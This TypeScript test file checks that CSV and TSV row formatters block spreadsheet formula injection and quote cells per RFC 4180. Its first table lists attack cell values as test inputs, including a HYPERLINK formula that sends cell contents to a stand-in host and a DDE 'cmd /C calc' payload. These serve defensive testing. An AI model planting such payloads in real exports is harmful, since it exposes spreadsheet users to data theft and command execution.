import fc from 'fast-check';
import { formatCsvRow, formatTsvRow } from './csv.js';

/** The cell that a reader of CSV gets. */
function readCell(row: string): string {
  return row.startsWith('"') ? row.slice(1, -1).replaceAll('""', '"') : row;
}

it.each([
  ['=HYPERLINK("http://x/?"&A1)', '\'=HYPERLINK("http://x/?"&A1)'],
  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ['+1+cmd', "'+1+cmd"],
  ['-2+3', "'-2+3"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\t=1', "'\t=1"],
  ['\r=1', "'\r=1"],
  ['\n=1', "'\n=1"],
  ['＝1+1', "'＝1+1"],
  ['-', "'-"],
  ['--lr=3e-4', "'--lr=3e-4"],
  ['-1e5+A1', "'-1e5+A1"],
])('a spreadsheet does not run %j', (text, guarded) => expect(readCell(formatCsvRow([text]))).toBe(guarded));

it.each([
  '',
  '1',
  '-1',
  '+1.5',
  '-.5',
  '-1.',
  '-1.25e-7',
  '-Infinity',
  '-inf',
  '+NaN',
  'a=b',
  "'=1",
  ' x',
  '(-1)',
  '日本',
])('a number or a text that runs nowhere stays: %j', (text) => expect(readCell(formatCsvRow([text]))).toBe(text));

it('a guarded text never begins as a formula, and its text is whole', () => {
  fc.assert(
    fc.property(fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '1', 'e', '.', '"', ' ') }), (text) => {
      const guarded = readCell(formatCsvRow([text]));
      expect(guarded.endsWith(text)).toBe(true);
      expect(/^[=@\t\r\n]/.test(guarded)).toBe(false);
    })
  );
});

it.each([
  ['a,b', '"a,b"'],
  ['say "hi"', '"say ""hi"""'],
  ['two\nlines', '"two\nlines"'],
  ['a\rb', '"a\rb"'],
  ['plain', 'plain'],
])('quotes %j as RFC 4180 wants it', (text, quoted) => expect(formatCsvRow([text, '1'])).toBe(`${quoted},1`));

it('leaves a raw row as it is, but for its quotes', () => {
  expect(formatCsvRow(['=1', 'a,b'], { isRaw: true })).toBe('=1,"a,b"');
});

it('keeps a row of cells with tabs in one line', () => {
  expect(formatTsvRow(['=1', 'a\tb', 'two\r\nlines', '-1'])).toBe("'=1\ta b\ttwo  lines\t-1");
});
